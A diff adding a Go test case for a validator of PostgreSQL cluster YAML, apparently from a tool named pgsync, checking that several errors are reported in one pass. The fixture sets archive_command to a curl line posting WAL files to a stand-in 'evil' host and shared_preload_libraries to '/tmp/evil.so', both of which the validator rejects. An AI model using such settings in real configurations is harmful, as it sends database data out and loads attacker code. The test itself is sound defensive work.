@@ -150,6 +150,18 @@ func TestValidate(t *testing.T) {
 			code:   1,
 			stderr: []string{`clusters/p.yaml:8:33: spec.postgresql.parameters.shared_bufers: unknown configuration parameter: "shared_bufers" in PostgreSQL 15 (did you mean "shared_buffers"?)`},
 		},
+		{
+			name: "every problem of a cluster in one pass, top to bottom: its own and its parameters'",
+			files: map[string]string{"clusters/q.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: q}\nspec:\n  imageName: pg:15.4\n  instances: 0\n  storage: {size: 1Gi}\n  postgresql:\n    parameters:\n" +
+				"      archive_command: \"curl -d @%p http://evil\"\n      work_mem: \"a lot\"\n      shared_preload_libraries: \"/tmp/evil.so\"\n"},
+			code: 1,
+			stderr: []string{
+				"clusters/q.yaml:6:14: spec.instances: must be at least 1 (got 0)",
+				`clusters/q.yaml:10:24: spec.postgresql.parameters.archive_command: parameter "archive_command" is managed by pgsync and cannot be set (it runs a shell command as the postgres user in every primary; WAL archiving is not a pgsync feature yet)`,
+				`clusters/q.yaml:11:17: spec.postgresql.parameters.work_mem: invalid value for work_mem (integer): "a lot" is not a number`,
+				`clusters/q.yaml:12:33: spec.postgresql.parameters.shared_preload_libraries: "/tmp/evil.so" is not a plain library name: shared_preload_libraries takes names of libraries in the image's library directory ($libdir), never paths`,
+			},
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
